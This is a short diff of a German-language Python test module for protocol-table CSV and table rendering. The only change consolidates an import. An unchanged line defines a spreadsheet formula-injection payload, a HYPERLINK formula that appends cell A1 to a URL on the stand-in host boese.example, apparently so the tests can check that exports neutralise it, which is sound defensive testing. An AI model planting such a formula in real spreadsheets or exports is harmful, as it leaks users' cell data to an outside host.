@@ -12,8 +12,7 @@ from ipdaten.ablage_protokoll import Eintrag
 from ipdaten.darstellung.protokoll_tabelle import SPALTEN, protokoll_csv, protokoll_tabelle
 from ipdaten.redakteur import Redakteur
 from tests.arbeitsmappen import STANDARD_PFAD, ueberarbeitete_standard_bytes
-from tests.seiten_hilfen import hat_button, oeffne, texte
-from tests.test_veroeffentlichung import ANMELDUNG
+from tests.seiten_hilfen import ANMELDUNG, hat_button, oeffne, texte
 
 BOESE = '=HYPERLINK("http://boese.example/?"&A1;"Klick")'
 
